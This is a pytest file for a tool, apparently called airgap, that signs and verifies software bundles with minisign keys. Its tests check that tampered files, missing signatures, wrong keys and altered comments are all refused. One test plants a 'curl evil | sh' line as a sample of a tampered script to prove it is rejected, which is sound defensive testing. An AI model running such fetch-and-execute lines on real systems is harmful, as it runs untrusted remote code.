"""Signed bundles: airgap and the stock minisign tool agree; every kind of tampering is refused."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.conftest import MiB, make_bundle, payload, run_airgap

FILES = {
    "layers/02-driver/NVIDIA-Linux-x86_64-550.90.07.run": payload(MiB, 1),
    "layers/10-files/check.sh": b"#!/bin/sh\nnvidia-smi\n",
}


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Path, Path]:
    r = run_airgap("keygen", "-o", str(tmp_path / "site"))
    assert r.returncode == 0, r.stderr
    secret, public = tmp_path / "site.key", tmp_path / "site.pub"
    assert secret.stat().st_mode & 0o777 == 0o600
    return secret, public


@pytest.fixture
def signed(tmp_path: Path, keys: tuple[Path, Path]) -> Path:
    bundle = make_bundle(tmp_path / "bundle", FILES)
    r = run_airgap("sign", str(bundle), "--key", str(keys[0]))
    assert r.returncode == 0, r.stderr
    return bundle


def test_signed_bundle_verifies_with_airgap_and_with_minisign(
    signed: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    report = tmp_path / "report.json"
    r = run_airgap("verify", str(signed), "--key", str(keys[1]), "--report", str(report))
    assert r.returncode == 0, r.stderr
    assert "signature: valid, key " in r.stdout
    data = json.loads(report.read_text())
    assert data["ok"] is True
    assert data["signature"]["status"] == "valid"
    assert data["signature"]["public_key_file"] == str(keys[1])
    assert "bundle:t" in data["signature"]["trusted_comment"]
    assert data["sha256sums_sha256"] == hashlib.sha256((signed / "SHA256SUMS").read_bytes()).hexdigest()
    assert data["checked_at"].endswith("Z")
    if shutil.which("minisign"):
        m = subprocess.run(
            ["minisign", "-Vm", "SHA256SUMS", "-x", "SHA256SUMS.sig", "-p", str(keys[1])],
            cwd=signed,
            capture_output=True,
            text=True,
        )
        assert m.returncode == 0, m.stdout + m.stderr
        assert "Signature and comment signature verified" in m.stdout + m.stderr


def test_tampered_file_with_matching_sums_line_is_refused(signed: Path, keys: tuple[Path, Path]) -> None:
    target = "layers/10-files/check.sh"
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    (signed / target).write_bytes(evil)
    sums = signed / "SHA256SUMS"
    lines = [
        f"{hashlib.sha256(evil).hexdigest()}  {target}" if line.endswith(target) else line
        for line in sums.read_text().splitlines()
    ]
    sums.write_text("\n".join(lines) + "\n")
    r = run_airgap("verify", str(signed), "--key", str(keys[1]), "--json")
    assert r.returncode == 1
    kinds = {(p["kind"], p["path"]) for p in json.loads(r.stdout)["problems"]}
    assert ("signature", "SHA256SUMS.sig") in kinds
    assert "does not match SHA256SUMS" in r.stdout


def test_missing_signature_is_refused_when_a_key_is_given(signed: Path, keys: tuple[Path, Path]) -> None:
    (signed / "SHA256SUMS.sig").unlink()
    r = run_airgap("verify", str(signed), "--key", str(keys[1]))
    assert r.returncode == 1
    assert "the bundle is not signed" in r.stdout
    assert run_airgap("verify", str(signed)).returncode == 0  # no key asked: sums alone


def test_signature_by_another_key_names_both_keys(signed: Path, tmp_path: Path) -> None:
    other = run_airgap("keygen", "-o", str(tmp_path / "other"))
    assert other.returncode == 0
    r = run_airgap("verify", str(signed), "--key", str(tmp_path / "other.pub"))
    assert r.returncode == 1
    assert "signed by key ID" in r.stdout and "not by a trusted key" in r.stdout


def test_tampered_trusted_comment_is_refused(signed: Path, keys: tuple[Path, Path]) -> None:
    sig = signed / "SHA256SUMS.sig"
    lines = sig.read_text().splitlines()
    lines[2] = lines[2].replace("bundle:t", "bundle:prod")
    sig.write_text("\n".join(lines) + "\n")
    r = run_airgap("verify", str(signed), "--key", str(keys[1]))
    assert r.returncode == 1
    assert "trusted comment was altered" in r.stdout


def test_install_refuses_an_unsigned_bundle_when_given_a_key(
    signed: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    (signed / "SHA256SUMS.sig").unlink()
    root = tmp_path / "root"
    root.mkdir()
    for extra in ([], ["--no-verify"]):
        r = run_airgap("install", str(signed), "--root", str(root), "--key", str(keys[1]), "--only", "files", *extra)
        assert r.returncode == 1
        assert "not signed" in r.stderr
    assert not list(root.iterdir())  # refused before anything was written, the install lock included


def test_keys_are_not_overwritten_and_wrong_files_are_named(keys: tuple[Path, Path], signed: Path) -> None:
    secret, public = keys
    again = run_airgap("keygen", "-o", str(secret.with_suffix("")))
    assert again.returncode == 2 and "will not overwrite a key" in again.stderr
    wrong = run_airgap("sign", str(signed), "--key", str(public))
    assert wrong.returncode == 2 and "this is a public key" in wrong.stderr
    wrong = run_airgap("verify", str(signed), "--key", str(secret))
    assert wrong.returncode == 2 and "not an Ed25519 minisign public key" in wrong.stderr
